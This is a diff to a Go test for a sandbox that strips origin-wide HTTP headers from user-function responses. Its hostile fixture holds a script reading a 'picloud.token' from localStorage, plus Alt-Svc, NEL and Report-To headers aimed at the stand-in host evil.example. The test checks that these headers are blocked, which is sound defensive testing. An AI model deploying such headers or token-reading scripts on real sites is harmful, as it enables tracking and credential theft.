@@ -20,6 +20,8 @@ const hostilePage = `response(200, "<script>localStorage.getItem('picloud.token'
 	"Service-Worker-Allowed": "/",
 	"Strict-Transport-Security": "max-age=31536000; includeSubDomains",
 	"Alt-Svc": "h2=\"evil.example:443\"",
+	"NEL": "{\"report_to\": \"spy\", \"max_age\": 31536000, \"success_fraction\": 1.0}",
+	"Report-To": "{\"group\": \"spy\", \"max_age\": 31536000, \"endpoints\": [{\"url\": \"https://evil.example/r\"}]}",
 	"Set-Cookie": ["a=1; Path=/; HttpOnly", "b=2; Domain=example.com; Path=/api/v1", "c=3", "d=4; path=/fn/demo/x; Secure"]
 })`
 
@@ -75,7 +77,7 @@ func TestSandboxHeaders(t *testing.T) {
 			if got := h.Values("X-Content-Type-Options"); !slices.Equal(got, []string{"nosniff"}) {
 				t.Errorf("X-Content-Type-Options %q, want [nosniff]", got)
 			}
-			for _, name := range originWideHeaders {
+			for _, name := range []string{"Clear-Site-Data", "Service-Worker-Allowed", "Strict-Transport-Security", "Alt-Svc", "NEL", "Report-To"} {
 				if v := h.Values(name); len(v) > 0 {
 					t.Errorf("%s: %q went out", name, v)
 				}
